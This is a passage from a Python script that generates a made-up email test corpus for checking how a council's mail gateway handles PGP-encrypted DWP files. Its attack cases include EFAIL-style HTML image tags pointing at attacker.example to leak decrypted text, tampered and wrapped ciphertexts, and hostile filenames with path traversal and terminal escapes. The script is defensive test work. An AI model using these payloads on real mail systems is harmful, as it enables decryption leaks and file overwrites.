#!/usr/bin/env python3
"""Makes the mail corpus: keys/, *.eml and verdicts.csv, all in the folder of this script.

Needs Python 3 and GnuPG 2.2. Names, dates, boundaries and the order of the cases are always the same; keys and session
keys are fresh each time, so the sealed bytes differ from run to run. Everybody and everything in here is made up.

Mails are written as text with "\\n" line ends, one character a byte (Latin-1); `mail` turns the line ends into CRLF.
An entity is header fields, an empty line and a body without the line end that belongs to the boundary after it.
"""

import base64
import csv
import hashlib
import io
import pathlib
import subprocess
import tempfile
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
COUNCIL, DWP, STRANGER = "council@council.example", "dwp@dwp.example", "stranger@stranger.example"
FINGERPRINTS = {}
ROWS = []


# Keys and sealing.

def gpg(*arguments, given=b"", at="20200420T090000"):
    """Runs gpg at a frozen time, in the throw-away key ring, and returns what it writes."""
    command = ["gpg", "--homedir", HOME, "--batch", "--quiet", "--no-tty", "--no-options", "--trust-model", "always",
               "--pinentry-mode", "loopback", "--passphrase", "", "--faked-system-time", at + "!", *arguments]
    return subprocess.run(command, input=given, capture_output=True, check=True).stdout


def make_keys():
    """Makes the three keys, and writes out what the tests need of them."""
    folder = HERE / "keys"
    folder.mkdir(exist_ok=True)
    for name, user in (("council", COUNCIL), ("dwp", DWP), ("stranger", STRANGER)):
        shown = {"council": "Make-believe council", "dwp": "Make-believe DWP",
            "stranger": "Make-believe stranger"}[name]
        day = "20200401T090000"
        gpg("--quick-generate-key", f"{shown} <{user}>", "ed25519", "cert,sign", "never", at=day)
        listed = gpg("--with-colons", "--list-keys", user).decode().splitlines()
        FINGERPRINTS[user] = next(line.split(":")[9] for line in listed if line.startswith("fpr:"))
        gpg("--quick-add-key", FINGERPRINTS[user], "cv25519", "encr", "never", at=day)
        (folder / f"{name}.asc").write_bytes(gpg("--armor", "--export", user))
    (folder / "council-secret.asc").write_bytes(gpg("--armor", "--export-secret-keys", COUNCIL))


def seal(content, *more, to=(COUNCIL,), by=(DWP,)):
    """Encrypts to `to` and signs by `by`; returns the binary OpenPGP message."""
    arguments = [*more, "--encrypt"] + (["--sign"] if by else [])
    for user in to:
        arguments += ["--recipient", user]
    for user in by:
        arguments += ["--local-user", FINGERPRINTS[user]]
    return gpg(*arguments, given=content)


def armour(message, *headers, checksum_off_by=0):
    """The message in ASCII armour, with its CRC-24 at the end."""
    crc = 0xB704CE
    for byte in message:
        crc ^= byte << 16
        for _ in range(8):
            crc = (crc << 1) ^ (0x1864CFB if crc & 0x800000 else 0)
    lines = ["-----BEGIN PGP MESSAGE-----", *headers, "", wrapped(message, 64)]
    lines += ["=" + base64.b64encode(((crc ^ checksum_off_by) & 0xFFFFFF).to_bytes(3, "big")).decode()]
    return "\n".join(lines + ["-----END PGP MESSAGE-----"])


def sealed(content, **options):
    """Sealed and in armour."""
    return armour(seal(content, **options))


def altered(message, at=-60):
    """The message with one bit of another value."""
    message = bytearray(message)
    # A container in several pieces has lengths between them, which must not be hit.
    assert message[message[1] + 3] < 224
    message[at] ^= 1
    return bytes(message)


# Files.

def laid(number):
    """A LAID file with one claim that never was."""
    return f'<?xml version="1.0"?><LAID><Claim reference="MADE-UP-{number}"/></LAID>'.encode()


def pack():
    """A ZIP archive with one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("AOBWR627_LAID_RISK.csv", (2020, 4, 20, 9, 0, 0)), CSV)
    return out.getvalue()


CSV = b"Claim reference,Risk group\r\nMADE-UP-1,2\r\nMADE-UP-2,1\r\n"
XML = laid(1)
ZIP = pack()
# The beginning of a CMS envelope and of a TNEF stream, then nothing of use.
CMS = bytes.fromhex("308006092a864886f70d010703a080308002010031") + b"made up"
TNEF = bytes.fromhex("789f3e22010001") + b"made up"


# MIME.

def wrapped(data, width=76):
    """Base64 in lines."""
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + width] for i in range(0, len(text), width))


def leaf(body, kind=None, *fields):
    """An entity that holds no others."""
    head = ([f"Content-Type: {kind}"] if kind else []) + list(fields)
    return "".join(field + "\n" for field in head) + "\n" + body


def multi(kind, *parts, b="b1", close=True, more="", before="", after="", head=""):
    """A multipart entity. `more`: further parameters; `before`, `after`: preamble and epilogue."""
    body = before + "".join(f"--{b}\n{part}\n" for part in parts) + (f"--{b}--\n" if close else "")
    return f'Content-Type: multipart/{kind}; boundary="{b}"{more}\n{head}\n{body}{after}'


def mixed(*parts, **options):
    return multi("mixed", *parts, **options)


def text(words="Please find enclosed.", *fields):
    return leaf(words, "text/plain; charset=utf-8", *fields)


def html(words="<p>Please find enclosed.</p>", *fields):
    return leaf(words, "text/html; charset=utf-8", *fields)


def attached(data, name, kind="application/octet-stream"):
    """A base64 attachment."""
    data = data.encode("latin-1") if isinstance(data, str) else data
    return leaf(wrapped(data), f'{kind}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"',
                "Content-Transfer-Encoding: base64")


def in_clear(data, name, kind="application/octet-stream"):
    """An attachment as it is, 7-bit."""
    return leaf(data, kind, f'Content-Disposition: attachment; filename="{name}"')


VERSION = leaf("Version: 1", "application/pgp-encrypted", "Content-Description: PGP/MIME version identification")
PGP_MIME = '; protocol="application/pgp-encrypted"'
PREAMBLE = "This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n"
FOOTER = text("--\nTo unsubscribe, ask list@list.example.", "Content-Disposition: inline")
LOGO = leaf("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "image/gif", "Content-ID: <logo@dwp.example>",
            "Content-Disposition: inline", "Content-Transfer-Encoding: base64")


def octets(body, *fields):
    """The second part of PGP/MIME."""
    return leaf(body, 'application/octet-stream; name="encrypted.asc"', *fields)


def pgp_mime(body, **options):
    """RFC 3156, as Enigmail writes it."""
    options = {"more": PGP_MIME, "before": PREAMBLE, **options}
    return multi("encrypted", VERSION, octets(body, 'Content-Disposition: inline; filename="encrypted.asc"'),
        **options)


def inner(entity):
    """A MIME entity as the content of a sealed part."""
    return entity.replace("\n", "\r\n").encode("latin-1")


def holding(*files, b="inner"):
    """A MIME entity with a cover note and attachments, as the content of a sealed part."""
    return inner(mixed(text(), *(attached(data, name) for data, name in files), b=b))


def mail(entity, subject="Made-up files", ends="\r\n", version="MIME-Version: 1.0\n", date=True):
    """A whole mail."""
    head = f"From: Make-believe DWP <{DWP}>\nTo: Make-believe council <{COUNCIL}>\nSubject: {subject}\n"
    head += ("Date: Mon, 20 Apr 2020 10:00:00 +0100\n" if date else "") + "Message-ID: <made-up@dwp.example>\n"
    return (head + version + entity).replace("\n", ends).encode("latin-1")


def forward(entity, *fields, **options):
    """A mail as a part of another."""
    return leaf(mail(entity, ends="\n", **options).decode("latin-1"), "message/rfc822", *fields)


def case(name, verdict, note, content, *files):
    """Writes a mail, and notes what is to become of it."""
    content = content if isinstance(content, bytes) else mail(content)
    assert (verdict == "delivers") == bool(files) and all(row[0] != f"{name}.eml" for row in ROWS), name
    (HERE / f"{name}.eml").write_bytes(content)
    ROWS.append((f"{name}.eml", verdict, ";".join(hashlib.sha256(file).hexdigest() for file in files), note))


# The cases.

def pgp_mime_cases():
    one = holding((XML, "LAID.xml"))
    case("pgpmime", "delivers", "PGP/MIME with one attachment inside", pgp_mime(sealed(one)), XML)
    case("pgpmime-lf", "delivers", "PGP/MIME, every line end a bare LF", mail(pgp_mime(sealed(one)), ends="\n"), XML)
    case("pgpmime-three-files", "delivers", "PGP/MIME with three attachments inside",
         pgp_mime(sealed(holding((XML, "LAID.xml"), (CSV, "AOBWR627_LAID_RISK.csv"), (ZIP, "pack.zip")))), XML, CSV,
         ZIP)
    case("pgpmime-inner-only-text", "delivers", "PGP/MIME, inside it a nameless text only",
         pgp_mime(sealed(inner(text("Nothing to report.\n")))), b"Nothing to report.\r\n")
    case("pgpmime-inner-one-leaf", "delivers", "PGP/MIME, inside it one attachment without a multipart",
         pgp_mime(sealed(inner(attached(ZIP, "pack.zip", "application/zip")))), ZIP)
    case("pgpmime-inner-version-first", "delivers", "inner entity that begins with MIME-Version",
         pgp_mime(sealed(b"MIME-Version: 1.0\r\n" + one)), XML)
    case("pgpmime-inner-protected", "delivers", "inner entity with protected header fields",
         pgp_mime(sealed(inner(mixed(text(), attached(XML, "LAID.xml"), b="inner", more='; protected-headers="v1"',
                                     head=f"Subject: Made-up files\nFrom: {DWP}\n"))), head="X-Mailer: made-up\n"),
                                     XML)
    case("pgpmime-inner-alternative", "delivers", "inner cover note as text and HTML, with a logo",
         pgp_mime(sealed(inner(mixed(multi("alternative", text(), html(), b="alt"), LOGO, attached(CSV, "a.csv"),
                                     b="inner")))), CSV)
    quoted = leaf("Claim reference,Risk group=0D=0AMADE=2DUP-1,2=0D=0AMADE-=\nUP-2,1=0D=0A", "text/csv",
                  'Content-Disposition: attachment; filename="AOBWR627_LAID_RISK.csv"',
                  "Content-Transfer-Encoding: quoted-printable")
    case("pgpmime-inner-quoted", "delivers", "inner attachment in quoted-printable",
         pgp_mime(sealed(inner(mixed(text(), quoted, b="inner")))), CSV)
    case("pgpmime-inner-seven-bit", "delivers", "inner attachment in 7-bit, CRLF",
         pgp_mime(sealed(inner(mixed(text(), in_clear(CSV.decode().replace("\r", ""), "a.csv", "text/csv"),
                                     b="inner")))), CSV)
    case("pgpmime-inner-lf", "delivers", "inner entity, every line end a bare LF",
         pgp_mime(sealed(one.replace(b"\r", b""))), XML)
    case("pgpmime-inner-name-in-type", "delivers", "inner file named by Content-Type alone",
         pgp_mime(sealed(inner(mixed(text(),
                                     leaf(wrapped(XML), 'application/xml; name="LAID.xml"',
                                          "Content-Transfer-Encoding: base64"), b="inner")))), XML)
    case("pgpmime-inner-text-attached", "delivers", "inner text that is an attachment without a name",
         pgp_mime(sealed(inner(mixed(text(), text("Made up.", "Content-Disposition: attachment"), b="inner")))),
         b"Made up.")
    case("pgpmime-plain-file", "delivers", "PGP/MIME around a file instead of a MIME entity",
         pgp_mime(sealed(CSV)), CSV)
    file = b"Content-Id,Risk group\r\nMADE-UP-1,2\n"
    case("pgpmime-file-like-mime", "delivers", "a file that begins with Content- but with no header field",
         pgp_mime(sealed(file)), file)
    case("pgpmime-two-recipients", "delivers", "sealed to us and to somebody else",
         pgp_mime(sealed(one, to=(STRANGER, COUNCIL))), XML)
    case("pgpmime-hidden-recipient", "delivers", "sealed to a recipient without a key id",
         pgp_mime(armour(seal(one, "--throw-keyids"))), XML)
    case("pgpmime-uncompressed", "delivers", "not compressed", pgp_mime(armour(seal(one, "-z0"))), XML)
    detached = multi("signed", text(), SIGNATURE, b="inner",
                     more='; micalg=pgp-sha256; protocol="application/pgp-signature"')
    case("pgpmime-inner-signed", "CN-105", "signed by a multipart/signed inside the encryption, not by OpenPGP itself",
         pgp_mime(sealed(inner(detached), by=())))
    case("pgpmime-inner-encrypted", "partly-sealed", "inner entity that holds PGP/MIME again",
         pgp_mime(sealed(inner(pgp_mime(sealed(one), b="inner")))))
    case("pgpmime-inner-armour", "partly-sealed", "inner entity with a sealed attachment",
         pgp_mime(sealed(holding((sealed(XML), "LAID.xml.asc")))))
    case("pgpmime-inner-smime", "partly-sealed", "inner entity that holds S/MIME",
         pgp_mime(sealed(inner(mixed(text(), attached(CMS, "smime.p7m", "application/pkcs7-mime"), b="inner")))))
    doubled = attached(XML, "LAID.xml").replace("\n\n", "\nContent-Transfer-Encoding: 7bit\n\n", 1)
    case("pgpmime-inner-doubled-field", "ambiguous", "inner entity with two transfer encodings",
         pgp_mime(sealed(inner(mixed(text(), doubled, b="inner")))))
    case("pgpmime-inner-mixed-ends", "ambiguous", "inner entity with CRLF and bare LF",
         pgp_mime(sealed(one.replace(b"enclosed.\r\n", b"enclosed.\n"))))
    case("pgpmime-inner-no-boundary", "ambiguous", "inner multipart without a boundary",
         pgp_mime(sealed(inner("Content-Type: multipart/mixed\n\n--x\n\nmade up\n--x--\n"))))
    case("pgpmime-inner-unknown-encoding", "ambiguous", "inner attachment in an unknown transfer encoding",
         pgp_mime(sealed(one.replace(b"Encoding: base64", b"Encoding: x-base91"))))
    case("pgpmime-three-parts-text", "delivers", "multipart/encrypted with a note as third part",
         multi("encrypted", VERSION, octets(sealed(one)), text("Scanned."), more=PGP_MIME), XML)
    case("pgpmime-three-parts-clear", "partly-sealed", "multipart/encrypted with a clear file as third part",
         multi("encrypted", VERSION, octets(sealed(one)), attached(CSV, "a.csv"), more=PGP_MIME))
    case("pgpmime-swapped", "delivers", "multipart/encrypted with its parts swapped",
         multi("encrypted", octets(sealed(one)), VERSION, more=PGP_MIME), XML)
    case("pgpmime-wrong-protocol", "delivers", "multipart/encrypted with the wrong protocol",
         multi("encrypted", VERSION, octets(sealed(one)), more='; protocol="application/x-other"'), XML)
    case("pgpmime-no-protocol", "delivers", "multipart/encrypted without a protocol",
         multi("encrypted", VERSION, octets(sealed(one))), XML)
    case("pgpmime-no-version", "delivers", "multipart/encrypted without its Version part",
         multi("encrypted", octets(sealed(one)), more=PGP_MIME), XML)
    case("pgpmime-version-2", "partly-sealed", "application/pgp-encrypted that says more than Version: 1",
         multi("encrypted", leaf("Version: 1\nClaim: MADE-UP-1", "application/pgp-encrypted"), octets(sealed(one)),
               more=PGP_MIME))
    case("pgpmime-nested", "delivers", "multipart/encrypted as the second part of a multipart/encrypted",
         multi("encrypted", VERSION, pgp_mime(sealed(one), b="b2"), more=PGP_MIME), XML)
    case("pgpmime-in-signed", "partly-sealed", "multipart/signed around PGP/MIME: a signature lies beside the sealed",
         multi("signed", pgp_mime(sealed(one), b="b2"), SIGNATURE,
               more='; micalg=pgp-sha256; protocol="application/pgp-signature"'))
    case("pgpmime-in-smime-signed", "partly-sealed", "S/MIME clear-signed around PGP/MIME",
         multi("signed", pgp_mime(sealed(one), b="b2"), attached(CMS, "smime.p7s", "application/pkcs7-signature"),
               more='; micalg=sha-256; protocol="application/pkcs7-signature"'))
    case("pgpmime-no-mime-version", "delivers", "multipart without MIME-Version",
         mail(pgp_mime(sealed(one)), version=""), XML)
    case("pgpmime-no-close", "delivers", "no closing boundary, the armour complete",
         pgp_mime(sealed(one), close=False), XML)
    case("pgpmime-epilogue", "delivers", "words after the closing boundary",
         pgp_mime(sealed(one), after="Scanned by a made-up gateway.\n"), XML)
    case("pgpmime-boundary-padding", "delivers", "blanks after the boundary lines",
         pgp_mime(sealed(one)).replace("--b1\n", "--b1 \t\n"), XML)
    case("pgpmime-odd-boundary", "delivers", "a quoted boundary of unusual characters",
         pgp_mime(sealed(one), b="=_(a)?b:c/d,e'f+g h"), XML)
    case("pgpmime-long-boundary", "delivers", "a boundary of seventy characters",
         pgp_mime(sealed(one), b="0123456789" * 7), XML)


def gateway_cases():
    one = holding((XML, "LAID.xml"))
    named = leaf("Version: 1", 'application/pgp-encrypted; name="ATT00001"',
                 'Content-Disposition: attachment; filename="ATT00001"')
    case("gateway-mixed", "delivers", "PGP/MIME that became multipart/mixed", mixed(VERSION, octets(sealed(one))), XML)
    case("gateway-exchange", "delivers", "as Exchange leaves PGP/MIME: mixed, an empty text, both parts attachments",
         mixed(text(""), named, attached(sealed(one), "encrypted.asc")), XML)
    case("gateway-version-base64", "delivers", "the Version part in base64",
         mixed(leaf(wrapped(b"Version: 1\r\n"), "application/pgp-encrypted", "Content-Transfer-Encoding: base64"),
               attached(sealed(one), "encrypted.asc")), XML)
    case("gateway-dat", "delivers", "the sealed part renamed .dat",
         mixed(VERSION, attached(sealed(one), "ATT00002.dat")), XML)
    case("gateway-no-name", "delivers", "the sealed part without a name",
         mixed(VERSION, leaf(sealed(one), "application/octet-stream")), XML)
    case("gateway-no-type", "delivers", "the sealed part without any field", mixed(VERSION, leaf(sealed(one))), XML)
    case("gateway-binary", "delivers", "binary OpenPGP as octet-stream in base64",
         mixed(VERSION, attached(seal(one), "ATT00002.bin")), XML)
    case("gateway-text", "delivers", "the sealed part as a text/plain attachment",
         mixed(VERSION, in_clear(sealed(one), "encrypted.txt", "text/plain")), XML)
    case("gateway-html-type", "delivers", "armour alone in a part called text/html",
         mixed(text(), html(sealed(one))), XML)
    case("gateway-image-type", "delivers", "binary OpenPGP in an inline part called image/png",
         mixed(text(), leaf(wrapped(seal(XML)), "image/png", "Content-Transfer-Encoding: base64")), XML)
    case("gateway-disclaimer", "delivers", "a disclaimer appended as a part",
         mixed(pgp_mime(sealed(one), b="b2"), text("This mail is confidential.")), XML)
    case("gateway-disclaimer-html", "delivers", "a disclaimer appended in HTML, with a logo",
         mixed(pgp_mime(sealed(one), b="b2"), html("<p>This mail is confidential.</p>"), LOGO), XML)
    case("gateway-mailman", "delivers", "a mailing list's footer as a part",
         mixed(pgp_mime(sealed(one), b="b2"), FOOTER), XML)
    case("gateway-wrapped-twice", "delivers", "wrapped in two further multipart/mixed",
         mixed(mixed(pgp_mime(sealed(one), b="b3"), b="b2"), FOOTER), XML)
    case("gateway-tnef", "partly-sealed", "winmail.dat beside the sealed part",
         mixed(VERSION, octets(sealed(one)), attached(TNEF, "winmail.dat", "application/ms-tnef")))
    case("gateway-calendar", "partly-sealed", "a calendar entry beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"), leaf("BEGIN:VCALENDAR\nEND:VCALENDAR", "text/calendar")))
    case("gateway-public-key", "partly-sealed", "a public key attached beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"),
               in_clear((HERE / "keys/dwp.asc").read_text(), "dwp.asc", "application/pgp-keys")))
    case("gateway-image-attached", "partly-sealed", "a picture attached beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"), attached(b"GIF89a made up", "photo.gif", "image/gif")))
    case("gateway-text-attached", "partly-sealed", "a text attached in clear beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"), in_clear("MADE-UP-1", "claims.txt", "text/plain")))
    case("gateway-smime-beside", "partly-sealed", "an S/MIME part beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"), attached(CMS, "smime.p7m", "application/pkcs7-mime")))
    case("gateway-clearsigned-beside", "partly-sealed", "a clear-signed note beside the sealed part",
         mixed(pgp_mime(sealed(one), b="b2"), text(CLEARSIGNED)))
    case("gateway-footer-in-base64", "ambiguous", "a footer pasted below base64",
         mixed(text(), attached(padded(sealed(XML)), "LAID.xml.asc") + "\n--\nTo unsubscribe, ask list@list.example."))
    case("gateway-footer-in-armour", "partly-sealed", "a footer pasted below the armour, in the same part",
         mixed(VERSION, octets(sealed(one) + "\n\n--\nTo unsubscribe, ask list@list.example.")))


def attachment_cases():
    case("attached-pgp", "delivers", "one .pgp, binary in base64",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp")), XML)
    case("attached-gpg", "delivers", "one .gpg, application/pgp-encrypted by mistake",
         mixed(text(), attached(seal(ZIP), "pack.zip.gpg", "application/pgp-encrypted")), ZIP)
    case("attached-asc", "delivers", "one .asc, 7-bit", mixed(text(), in_clear(sealed(CSV), "a.csv.asc")), CSV)
    case("attached-asc-lf", "delivers", "one .asc, every line end a bare LF",
         mail(mixed(text(), in_clear(sealed(CSV), "a.csv.asc")), ends="\n"), CSV)
    case("attached-asc-base64", "delivers", "one .asc in base64, LF within",
         mixed(text(), attached(sealed(CSV), "a.csv.asc")), CSV)
    quoted = sealed(CSV).replace("=", "=3D")
    lines = [line[:40] + "=\n" + line[40:] if len(line) > 50 else line for line in quoted.split("\n")]
    case("attached-asc-quoted", "delivers", "one .asc in quoted-printable with soft line ends",
         mixed(text(), leaf("\n".join(lines), 'application/octet-stream; name="a.csv.asc"',
                            "Content-Transfer-Encoding: quoted-printable")), CSV)
    case("attached-three", "delivers", "three attachments",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp"), in_clear(sealed(CSV), "a.csv.asc"),
               attached(seal(ZIP), "pack.zip.gpg")), XML, CSV, ZIP)
    case("attached-same-name", "delivers", "two attachments of the same name",
         mixed(text(), attached(seal(laid(1)), "LAID.xml.pgp"), attached(seal(laid(2)), "LAID.xml.pgp")), laid(1),
         laid(2))
    case("attached-mime-inside", "delivers", "an attachment that holds a MIME entity with two files",
         mixed(text(), attached(seal(holding((XML, "LAID.xml"), (CSV, "a.csv"))), "mail.pgp")), XML, CSV)
    case("attached-only", "delivers", "the mail is the attachment, no multipart",
         attached(seal(XML), "LAID.xml.pgp"), XML)
    case("attached-html-note", "delivers", "cover note as text and HTML, with a logo",
         mixed(multi("related", multi("alternative", text(), html(), b="b3"), LOGO, b="b2"),
               attached(seal(XML), "LAID.xml.pgp")), XML)
    case("attached-blank-base64-lines", "delivers", "empty lines around base64",
         mixed(text(),
               leaf("\n" + wrapped(seal(XML)) + "\n\n", "application/octet-stream",
                    "Content-Transfer-Encoding: base64")), XML)
    case("attached-one-clear", "partly-sealed", "one attachment sealed, one in clear",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp"), attached(CSV, "a.csv")))
    case("attached-fake-pgp", "partly-sealed", "one attachment sealed, one only called .pgp",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp"), attached(CSV, "a.csv.pgp")))
    case("attached-one-stranger", "CN-106", "two attachments, one signed by a stranger",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp"), attached(seal(CSV, by=(STRANGER,)), "a.csv.pgp")))
    case("attached-one-unsigned", "CN-105", "two attachments, one unsigned",
         mixed(text(), attached(seal(XML, by=()), "LAID.xml.pgp"), attached(seal(CSV), "a.csv.pgp")))

    def named(name, note, *fields, kind="application/octet-stream"):
        part = leaf(wrapped(seal(XML)), kind, *fields, "Content-Transfer-Encoding: base64")
        case(f"name-{name}", "delivers", note, mixed(text(), part), XML)

    named("2231-charset", "file name in RFC 2231 with a charset",
          "Content-Disposition: attachment; filename*=utf-8'en'LAID%20%C2%A3%20April.xml.pgp")
    named("2231-continued", "file name in RFC 2231 continuations",
          "Content-Disposition: attachment;\n filename*0*=utf-8''LAID%20;\n filename*1=\"made-up-\";\n"
          " filename*2=\"1.xml.pgp\"")
    named("2231-nul", "file name in RFC 2231 with encoded NUL, CR and LF",
          "Content-Disposition: attachment; filename*=utf-8''LAID%00%0D%0A.xml.pgp")
    named("2047", "file name in RFC 2047",
          'Content-Disposition: attachment; filename="=?utf-8?B?TEFJRCDCoy54bWwucGdw?="',
          kind='application/octet-stream; name="=?iso-8859-1?Q?LAID_=A3.xml.pgp?="')
    named("path", "file name with path separators",
          'Content-Disposition: attachment; filename="../../etc/LAID.xml.pgp"')
    named("windows-path", "file name with a drive",
          'Content-Disposition: attachment; filename="C:\\\\HB\\\\LAID.xml.pgp"')
    named("control", "file name with control characters",
          'Content-Disposition: attachment; filename="LAID\x07\x1b[2J.xml.pgp"')
    named("eight-bit", "file name in raw Latin-1", 'Content-Disposition: attachment; filename="LAID \xa3.xml.pgp"')
    named("two-minds", "Content-Type and Content-Disposition give different names",
          'Content-Disposition: attachment; filename="LAID.xml.pgp"', kind='image/png; name="photo.png"')
    named("empty", "file name that is empty", 'Content-Disposition: attachment; filename=""')


def inline_cases():
    plain = "text/plain; charset=utf-8"
    case("inline", "delivers", "armour as the body, CRLF", leaf(sealed(XML) + "\n", plain), XML)
    case("inline-lf", "delivers", "armour as the body, LF", mail(leaf(sealed(XML) + "\n", plain), ends="\n"), XML)
    case("inline-no-type", "delivers", "armour as the body of a mail without MIME fields",
         mail(leaf(sealed(XML)), version=""), XML)
    case("inline-flowed", "delivers", "armour as the body, format=flowed",
         leaf(sealed(XML), plain + "; format=flowed"), XML)
    case("inline-flowed-spaces", "delivers", "format=flowed and a blank at the end of each line",
         leaf(sealed(XML).replace("\n", " \n") + " \n", plain + "; format=flowed; delsp=yes"), XML)
    case("inline-spaces", "delivers", "armour with blanks and tabs at the ends of lines",
         leaf(sealed(XML).replace("-----\n", "----- \t\n").replace("\n=", " \n="), plain), XML)
    case("inline-space-around", "delivers", "armour with empty lines around it",
         leaf("\n\n \n" + sealed(XML) + "\n\n \n\n", plain), XML)
    case("inline-comment", "delivers", "armour with Version and Comment lines",
         leaf(armour(seal(XML), "Version: GnuPG v2", "Comment: made up", "Comment: Charset: none"), plain), XML)
    # gpg 2.2 finds the end of armour without a checksum only if there is base64 padding.
    content = XML
    while len(message := seal(content)) % 3 == 0:
        content += b"\n"
    case("inline-no-checksum", "delivers", "armour without its optional checksum",
         leaf("\n".join(line for line in armour(message).split("\n") if line[:1] != "="), plain), content)
    case("inline-quoted", "delivers", "armour as the body, quoted-printable",
         leaf(sealed(XML).replace("=", "=3D"), plain, "Content-Transfer-Encoding: quoted-printable"), XML)
    case("inline-base64", "delivers", "armour as the body, base64",
         leaf(wrapped(sealed(XML).encode()), plain, "Content-Transfer-Encoding: base64"), XML)
    case("inline-mime-inside", "delivers", "armour as the body, in it a MIME entity",
         leaf(sealed(holding((XML, "LAID.xml"))), plain), XML)
    case("inline-and-attached", "delivers", "armour as the body and a sealed attachment",
         mixed(text(sealed(XML)), attached(seal(CSV), "a.csv.pgp")), XML, CSV)
    case("inline-text-before", "partly-sealed", "words before the armour", text("Dear all,\n\n" + sealed(XML)))
    case("inline-text-after", "partly-sealed", "words after the armour",
         text(sealed(XML) + "\n\nThis mail is confidential."))
    case("inline-text-both", "partly-sealed", "words around the armour beside a sealed attachment",
         mixed(text("Dear all,\n\n" + sealed(XML) + "\n\nYours"), attached(seal(CSV), "a.csv.pgp")))
    case("inline-dash-escaped", "partly-sealed", "armour with dash-escapes, so that it is no armour",
         text(sealed(XML).replace("-----BEGIN", "- -----BEGIN").replace("-----END", "- -----END")))
    escaped = sealed(XML).replace("-----BEGIN", "- -----BEGIN").replace("-----END", "- -----END")
    case("inline-in-clearsigned", "partly-sealed", "armour, dash-escaped, inside a clear-signed text",
         text(CLEARSIGNED.replace("Nothing to report.", escaped)))
    case("inline-html", "partly-sealed", "HTML-only mail with the armour in it",
         html("<html><body><pre>\n" + sealed(XML) + "\n</pre></body></html>"))
    case("inline-alternative", "partly-sealed", "armour as text, and again within HTML",
         multi("alternative", text(sealed(XML)), html("<pre>\n" + sealed(XML) + "\n</pre>")))
    case("inline-byte-order-mark", "partly-sealed", "a byte order mark before the armour",
         text("\xef\xbb\xbf" + sealed(XML)))


def attack_cases():
    one = holding((XML, "LAID.xml"))
    small = inner(attached(XML, "LAID.xml"))
    image, end = html('<img src="http://attacker.example/'), html('">')
    case("efail-html", "delivers", "EFAIL: PGP/MIME between two halves of an HTML image; the HTML is a cover note",
         mixed(image, pgp_mime(sealed(one), b="b2"), end), XML)
    case("efail-html-inline", "delivers", "EFAIL: armour in text/plain between two halves of an HTML image",
         mixed(image, text(sealed(XML)), end), XML)
    case("efail-html-attached", "partly-sealed", "EFAIL: the halves are attachments",
         mixed(html('<img src="http://attacker.example/', 'Content-Disposition: attachment; filename="a.html"'),
               pgp_mime(sealed(one), b="b2"), end))
    case("efail-html-one-part", "partly-sealed", "EFAIL: image, armour and end in one HTML part",
         html('<img src="http://attacker.example/\n' + sealed(XML) + '\n">'))
    case("efail-gadget", "CN-102", "EFAIL: a block of the ciphertext copied over another",
         pgp_mime(armour((lambda m: m[:-96] + m[-112:-96] + m[-80:])(seal(XML, "-z0")))))
    case("wrapping-second-part", "CN-106", "a good sealed part, and a second by an attacker",
         mixed(pgp_mime(sealed(one), b="b2"),
               pgp_mime(sealed(holding((laid(9), "LAID.xml")), by=(STRANGER,)), b="b3")))
    case("wrapping-first-part", "CN-106", "an attacker's sealed part before the good one",
         mixed(attached(seal(laid(9), by=(STRANGER,)), "LAID.xml.pgp"), attached(seal(XML), "LAID.xml.pgp")))
    case("wrapping-third-in-encrypted", "CN-106", "an attacker's part as the third of a multipart/encrypted",
         multi("encrypted", VERSION, octets(sealed(one)), octets(sealed(one, by=(STRANGER,))), more=PGP_MIME))
    case("tampered-pgpmime", "CN-102", "PGP/MIME with one bit altered", pgp_mime(armour(altered(seal(small)))))
    case("tampered-attached", "CN-102", "attachment with one bit altered",
         mixed(text(), attached(altered(seal(XML)), "LAID.xml.pgp")))
    case("tampered-last", "CN-102", "the last bit altered", leaf(armour(altered(seal(XML), -1)), "text/plain"))
    case("tampered-one-of-two", "CN-102", "two attachments, the second altered",
         mixed(text(), attached(seal(XML), "LAID.xml.pgp"), attached(altered(seal(CSV)), "a.csv.pgp")))
    case("tampered-checksum", "delivers", "armour with a wrong checksum, which proves nothing",
         pgp_mime(armour(seal(small), checksum_off_by=1)), XML)
    case("truncated-armour", "CN-103", "armour without its end", pgp_mime(sealed(small)[:-120]))
    case("truncated-armour-end", "CN-103", "armour without its last line",
         leaf(sealed(XML).replace("-----END PGP MESSAGE-----", ""), "text/plain"))
    case("truncated-mail", "CN-103", "the mail ends within the armour",
         pgp_mime("")[:-len("\n--b1--\n")] + sealed(small)[:300])
    case("truncated-binary", "CN-103", "binary attachment without its last bytes",
         mixed(text(), attached(seal(XML)[:-30], "LAID.xml.pgp")))
    case("truncated-in-armour", "CN-103", "whole armour around a message without its last bytes",
         pgp_mime(armour(seal(small)[:-30])))
    case("unsigned-pgpmime", "CN-105", "PGP/MIME, not signed", pgp_mime(sealed(one, by=())))
    case("unsigned-inline", "CN-105", "armour as the body, not signed", text(sealed(XML, by=())))
    case("stranger-pgpmime", "CN-106", "PGP/MIME signed by a stranger", pgp_mime(sealed(one, by=(STRANGER,))))
    case("stranger-inline", "CN-106", "armour signed by a stranger", text(sealed(XML, by=(STRANGER,))))
    case("stranger-ourselves", "CN-106", "signed by the council itself",
         mixed(text(), attached(seal(XML, by=(COUNCIL,)), "LAID.xml.pgp")))
    case("no-key-pgpmime", "CN-104", "PGP/MIME sealed to somebody else", pgp_mime(sealed(one, to=(STRANGER,))))
    passphrase = gpg("--sign", "--local-user", DWP, "--symmetric", "--passphrase", "made up", given=XML)
    case("no-key-passphrase", "CN-104", "attachment sealed to a passphrase instead of a key",
